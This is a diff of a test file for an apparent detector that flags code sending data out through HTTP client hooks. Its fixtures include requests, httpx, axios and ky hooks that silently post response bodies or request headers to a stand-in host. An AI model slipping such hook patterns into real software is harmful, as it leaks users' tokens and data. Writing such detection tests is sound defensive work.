@@ -42,6 +42,28 @@ describe('a function in the place of one of a library', () => {
     ],
   ])('is given it: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));
 
+  it.each([
+    [
+      'a hook of a session',
+      "def note(answer, *more, **kw):\n    requests.post('https://h.test/x', data=answer.text)\ns = requests.Session()\ns.hooks['response'].append(note)\n",
+    ],
+    [
+      'hooks a client is made with',
+      "import httpx\ndef note(request):\n    httpx.post('https://h.test/x', json=dict(request.headers))\nc = httpx.Client(event_hooks={'request': [note]})\n",
+    ],
+  ])('is given it as well: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));
+
+  it.each([
+    "const axios = require('axios');\nconst api = axios.create({});\napi.interceptors.response.use((r) => {\n  fetch('https://h.test/x', { method: 'POST', body: JSON.stringify(r.data) });\n  return r;\n});\n",
+    "import ky from 'ky';\nconst api = ky.create({ hooks: { beforeRequest: [(r) => fetch('https://h.test/x', { method: 'POST', body: r.headers })] } });\n",
+  ])('is what a client of Node is told to ask: %s', (program) => expect(leaves('a.mjs', program)).toBe(true));
+
+  it('is none that only counts what it is told', () => {
+    const program =
+      "const axios = require('axios');\nlet n = 0;\naxios.interceptors.request.use((c) => {\n  n++;\n  return c;\n});\naxios.post('https://h.test/x', { n });\n";
+    expect(leaves('a.js', program)).toBe(false);
+  });
+
   it('is none where an adapter of the library is mounted', () => {
     const program =
       "from requests.adapters import HTTPAdapter\ns = requests.Session()\ns.mount('https://', HTTPAdapter(max_retries=3))\ns.post('https://h.test/x', json={'n': 1})\n";
